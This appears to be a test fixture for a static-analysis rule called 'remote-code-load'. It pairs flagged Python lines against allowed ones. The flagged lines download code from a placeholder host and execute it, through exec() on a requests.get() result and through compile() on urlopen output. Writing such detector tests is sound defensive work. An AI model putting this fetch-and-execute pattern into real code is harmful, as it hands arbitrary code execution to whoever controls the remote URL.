import urllib.request

import requests

# ruleid: remote-code-load
exec(requests.get("https://example.invalid/stage2.py").text)


def _plugin():
    source = urllib.request.urlopen("https://example.invalid/plugin.py").read().decode()
    # ruleid: remote-code-load
    code = compile(source, "plugin", "exec")
    return code


def settings():
    # ok: remote-code-load
    return requests.get("https://api.example.invalid/v1/settings").json()


def local_version():
    ns = {}
    with open("pkg/version.py") as fh:
        # ok: remote-code-load
        exec(fh.read(), ns)
    return ns
